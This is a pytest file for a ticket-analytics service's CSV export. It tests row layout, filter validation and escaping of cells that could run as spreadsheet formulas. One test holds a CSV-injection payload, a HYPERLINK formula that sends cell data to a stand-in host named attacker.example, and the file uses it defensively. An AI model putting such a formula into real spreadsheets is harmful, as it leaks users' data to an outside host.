"""Unit tests of the CSV rendering every analytics report shares."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from fastapi import HTTPException

from ticketstream_analytics.api import csv_of, report_filter
from ticketstream_analytics.models import Detractor, DetractorsReport, VolumeBucket, VolumeReport


def test_a_report_becomes_a_summary_row_and_one_row_per_list_entry() -> None:
    report = VolumeReport(
        start=date(2026, 3, 1),
        end=date(2026, 3, 2),
        tz="Europe/Berlin",
        interval="day",
        total=3,
        by_source={"EMAIL": 2, "CHAT": 1},
        buckets=[
            VolumeBucket(start=date(2026, 3, 1), created=2, by_source={"EMAIL": 2}),
            VolumeBucket(start=date(2026, 3, 2), created=1, by_source={"CHAT": 1}),
        ],
    )
    rows = list(csv.DictReader(io.StringIO(csv_of(report))))
    assert [row["section"] for row in rows] == ["summary", "buckets", "buckets"]
    assert rows[0]["total"] == "3" and rows[0]["by_source.EMAIL"] == "2" and rows[0]["tz"] == "Europe/Berlin"
    assert (rows[1]["start"], rows[1]["created"], rows[1]["by_source.EMAIL"]) == ("2026-03-01", "2", "2")
    assert (rows[2]["by_source.CHAT"], rows[2]["by_source.EMAIL"]) == ("1", "")


def test_text_a_spreadsheet_would_run_as_a_formula_stays_text() -> None:
    comment = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    report = DetractorsReport(
        start=date(2026, 3, 1),
        end=date(2026, 3, 2),
        tz="UTC",
        items=[
            Detractor(
                ticket_id="t-1",
                ref="TKT-0001",
                score=1,
                comment=comment,
                agents=["@alice", "bob"],
                team="-support",
                category="billing",
                created_at=datetime(2026, 3, 1, 9, tzinfo=UTC),
            )
        ],
    )
    [_, row] = list(csv.DictReader(io.StringIO(csv_of(report))))
    assert row["comment"] == "'" + comment
    assert row["agents"] == "'@alice;bob"
    assert row["team"] == "'-support"
    assert row["category"] == "billing" and row["score"] == "1"


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ({"tz": "Europe"}, "unknown time zone"),
        ({"tz": "Mars/Olympus"}, "unknown time zone"),
        ({"start": date(1, 1, 1), "end": date(1, 1, 2), "tz": "Asia/Tokyo"}, "dates must lie between"),
        ({"start": date(2026, 1, 1), "end": date(9999, 12, 31)}, "dates must lie between"),
    ],
)
def test_filters_out_of_range_are_refused_with_a_reason(query: dict[str, Any], reason: str) -> None:
    with pytest.raises(HTTPException) as refused:
        report_filter(**query)
    assert refused.value.status_code == 422
    assert reason in str(refused.value.detail)
